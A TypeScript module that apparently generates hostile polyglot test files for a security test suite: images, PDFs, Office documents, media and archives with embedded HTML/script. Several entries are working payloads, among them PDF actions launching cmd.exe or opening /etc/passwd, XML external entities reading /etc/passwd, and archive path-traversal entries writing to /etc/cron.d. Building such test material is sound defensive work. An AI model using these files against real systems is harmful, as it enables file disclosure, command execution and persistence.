import { Buffer } from 'node:buffer'
import { gzipSync } from 'node:zlib'
import {
  box,
  compoundFile,
  gifWith,
  jpegWith,
  latin1,
  OFFICE_PARTS,
  officeEntries,
  pngChunk,
  pngWith,
  riff,
  riffChunk,
  stored,
  uint32be,
  zipOf,
} from './containers.ts'
import type { HostileIdea } from './hostile-file.ts'

const html = (run: string): Buffer<ArrayBuffer> => Buffer.from(`<html><script>${run}</script></html>`)
const tracks = (track: string): Buffer =>
  box('moov', box('trak', box('mdia', box('hdlr', latin1(`\0\0\0\0\0\0\0\0${track}\0\0\0\0`)))))

const idea = (filename: string, what: string, content: (run: string) => string | Buffer): HostileIdea => ({
  what: `polyglot: ${what}`,
  filename,
  content,
})

const PICTURES = [
  idea('a.gif', 'GIF that is a script', (run) => `GIF89a=1;${run}`),
  idea('a.gif', 'GIF that is a script behind a comment', (run) => `GIF89a/*\0\0\0*/=1;${run}`),
  idea('a.gif', 'GIF with a page in a comment', (run) => gifWith(html(run))),
  idea('a.gif', 'GIF with a page behind it', (run) => Buffer.concat([gifWith(Buffer.from('x')), html(run)])),
  idea('a.jpg', 'JPEG with a page in a comment', (run) => jpegWith(html(run))),
  idea('a.jpg', 'JPEG with a script in a comment', (run) => jpegWith(Buffer.from(`*/=1;${run}/*`))),
  idea('a.jpeg', 'JPEG with a page behind it', (run) => Buffer.concat([jpegWith(Buffer.from('x')), html(run)])),
  idea('a.png', 'PNG with a page in a text', (run) => pngWith(pngChunk('tEXt', html(run)))),
  idea('a.png', 'PNG with a page in international text', (run) => pngWith(pngChunk('iTXt', html(run)))),
  idea('a.png', 'PNG with a page in a chunk of its own', (run) => pngWith(pngChunk('prVt', html(run)))),
  idea('a.png', 'PNG with a page behind it', (run) => Buffer.concat([pngWith(), html(run)])),
  idea('a.png', 'PNG with a page as its colours', (run) => pngWith(pngChunk('PLTE', html(run)))),
  idea('a.webp', 'WebP with a page in a chunk', (run) => riff('WEBP', riffChunk('EXIF', html(run)))),
  idea('a.webp', 'WebP whose length is a comment', (run) => `RIFF/*  WEBP*/=1;${run}`),
]

const page = (objects: string): string => `%PDF-1.7\n${objects}\ntrailer<</Root 1 0 R>>\n%%EOF`
const withAction = (action: string): string =>
  page(`1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj
2 0 obj<</Type/Pages/Kids[4 0 R]/Count 1>>endobj
3 0 obj<<${action}>>endobj
4 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O 3 0 R>>>>endobj`)

const DOCUMENTS = [
  idea('a.pdf', 'PDF that is a page', (run) => `%PDF-1.4\n${html(run)}`),
  idea('a.pdf', 'PDF with a page behind it', (run) => `${page('1 0 obj<<>>endobj')}\n${html(run)}`),
  idea('a.pdf', 'PDF that is a script', (run) => `%PDF-1.4\n*/=1;${run}//`),
  idea('a.pdf', 'PDF with a script', (run) => withAction(`/S/JavaScript/JS(${run.replace(/[()\\]/g, '\\$&')})`)),
  idea('a.pdf', 'PDF that opens a script', (run) =>
    withAction(`/S/URI/URI(javascript:${run.replace(/[()]/g, '\\$&')})`),
  ),
  idea('a.pdf', 'PDF that starts a program', () => withAction('/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)>>')),
  idea('a.pdf', 'PDF that sends a form', () => withAction('/S/SubmitForm/F<</FS/URL/F(/ran/form)>>/Flags 4')),
  idea('a.pdf', 'PDF that opens a file', () => withAction('/S/GoToR/F(file:///etc/passwd)/D[0/Fit]')),
  ...['.doc', '.xls', '.ppt'].map((extension, index) =>
    idea(`a${extension}`, `${extension} with a page in it`, (run) =>
      compoundFile(['WordDocument', 'Workbook', 'PowerPoint Document'][index] ?? '', html(run).toString()),
    ),
  ),
  ...(['.docx', '.xlsx', '.pptx'] as const).map((extension) =>
    idea(`a${extension}`, `${extension} whose main part is a page`, (run) =>
      zipOf(officeEntries(extension, html(run).toString()), html(run)),
    ),
  ),
  ...(['.docx', '.xlsx', '.pptx'] as const).map((extension) =>
    idea(`a${extension}`, `${extension} with an external entity`, () =>
      zipOf(officeEntries(extension, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`)),
    ),
  ),
  idea('macros.docx', '.docx with macros', () =>
    zipOf([
      stored(
        '[Content_Types].xml',
        `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`,
      ),
      stored(OFFICE_PARTS['.docx'][0], '<x/>'),
    ]),
  ),
]

const frame = (): Buffer => Buffer.concat([uint32be(0xfffb9000), Buffer.alloc(413)])

const RECORDINGS = [
  idea('a.wav', 'WAV with a page in a chunk', (run) => riff('WAVE', riffChunk('LIST', html(run)))),
  idea('a.avi', 'AVI with a page in a chunk', (run) => riff('AVI ', riffChunk('JUNK', html(run)))),
  idea('a.mp3', 'MP3 with a page in its tag', (run) => {
    const tag = html(run)
    const size = Buffer.from([0, 0, tag.length >> 7, tag.length & 0x7f])
    return Buffer.concat([latin1('ID3\x03\0\0'), size, tag, frame(), frame(), frame(), frame()])
  }),
  idea('a.ogg', 'Ogg with a page behind it', (run) =>
    Buffer.concat([latin1(`OggS\0\x02${'\0'.repeat(20)}\x01\x10\x01vorbis${'\0'.repeat(9)}`), html(run)]),
  ),
  idea('a.mp4', 'MP4 with a page in a free box', (run) =>
    Buffer.concat([box('ftyp', latin1('isom\0\0\0\0isom')), box('free', html(run)), tracks('vide')]),
  ),
  idea('a.m4a', 'M4A with a page in a free box', (run) =>
    Buffer.concat([box('ftyp', latin1('M4A \0\0\0\0M4A ')), box('free', html(run)), tracks('soun')]),
  ),
  idea('a.mov', 'MOV with a page first', (run) => Buffer.concat([box('wide', html(run)), tracks('vide')])),
  idea('a.webm', 'WebM with a page in a void', (run) =>
    Buffer.concat([Buffer.from('1a45dfa387428284', 'hex'), latin1('webm\xEC'), Buffer.from([0x40, 0xff]), html(run)]),
  ),
]

function tarNamed(name: string): Buffer {
  const header = Buffer.alloc(512)
  header.write(name.slice(0, 99))
  header.write('0000644\x000000000\x000000000\x0000000000000\x0000000000000\x00        0', 100, 'latin1')
  header.write('ustar\x0000', 257, 'latin1')
  const sum = header.reduce((total, byte) => total + byte, 0)
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1')
  return Buffer.concat([header, Buffer.alloc(1024)])
}

const ARCHIVES = [
  idea('a.zip', 'ZIP with a page in its comment', (run) => zipOf([stored('a', 'a')], html(run))),
  idea('a.zip', 'ZIP that begins with a page', (run) => zipOf([stored(html(run).toString(), html(run))])),
  idea('a.zip', 'ZIP that unpacks elsewhere', () => zipOf([stored('../../../../escaped-zip.txt', 'x')])),
  idea('a.zip', 'ZIP that unpacks to the root', () => zipOf([stored('/etc/cron.d/escaped-zip', 'x')])),
  idea('a.tar', 'TAR whose file is named as a page', (run) => tarNamed(html(run).toString())),
  idea('a.tar', 'TAR that unpacks elsewhere', () => tarNamed('../../../../escaped-tar.txt')),
  idea('a.gz', 'gzip with a page as its name', (run) => {
    const plain = gzipSync('x')
    return Buffer.concat([
      Buffer.from('1f8b080800000000', 'hex'),
      plain.subarray(8, 10),
      html(run),
      Buffer.alloc(1),
      plain.subarray(10),
    ])
  }),
  idea('a.rar', 'RAR with a page behind its mark', (run) => Buffer.concat([latin1('Rar!\x1A\x07\x01\0'), html(run)])),
  idea('a.7z', '7z with a page behind its mark', (run) =>
    Buffer.concat([Buffer.from('377abcaf271c', 'hex'), html(run)]),
  ),
]

export const POLYGLOT_IDEAS: readonly HostileIdea[] = [...PICTURES, ...DOCUMENTS, ...RECORDINGS, ...ARCHIVES]
